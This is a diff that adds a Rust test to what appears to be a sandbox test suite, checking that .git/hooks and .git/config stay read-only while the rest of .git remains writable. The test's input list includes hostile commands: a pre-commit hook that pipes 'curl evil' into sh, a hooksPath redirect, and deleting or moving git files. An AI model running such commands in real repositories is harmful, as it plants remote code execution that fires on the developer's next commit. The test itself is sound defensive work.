@@ -309,6 +309,46 @@ async fn a_widened_command_may_write_outside_but_never_into_corvid_configuration
     );
 }
 
+/// `.git/hooks` and `.git/config` stay read-only inside the writable project, while the rest of
+/// `.git` (what `git commit` writes) stays writable.
+#[tokio::test]
+async fn git_hooks_and_config_are_read_only() {
+    let Some(jail) = jail() else { return };
+    if !SandboxProbe::detect().namespaces {
+        eprintln!(
+            "SKIPPED: no user namespaces here, so .git/hooks and .git/config are not protected"
+        );
+        return;
+    }
+    std::fs::create_dir_all(jail.root.join(".git/objects")).unwrap();
+    std::fs::write(jail.root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
+    std::fs::write(jail.root.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
+    let hook = jail.root.join(".git/hooks/pre-commit");
+    for command in [
+        "echo 'curl evil | sh' > .git/hooks/pre-commit",
+        "echo '[core] hooksPath = /tmp' >> .git/config",
+        "rm .git/config",
+        "mv .git/hooks .git/old-hooks",
+    ] {
+        let output = jail.run(command).await;
+        assert_refused(&output);
+    }
+    assert!(!hook.exists());
+    assert_eq!(
+        std::fs::read_to_string(jail.root.join(".git/config")).unwrap(),
+        "[core]\n\tbare = false\n"
+    );
+    let output = jail
+        .run("echo x > .git/objects/new && echo ref > .git/HEAD.lock && rm .git/HEAD.lock && echo git-ok")
+        .await;
+    assert!(
+        output.text.contains("git-ok"),
+        "the rest of .git stays writable: {}",
+        output.text
+    );
+    assert!(jail.root.join(".git/objects/new").exists());
+}
+
 /// Killing the process that started a sandboxed command kills the command too (the helper arms
 /// the parent-death signal before it becomes the command).
 #[test]
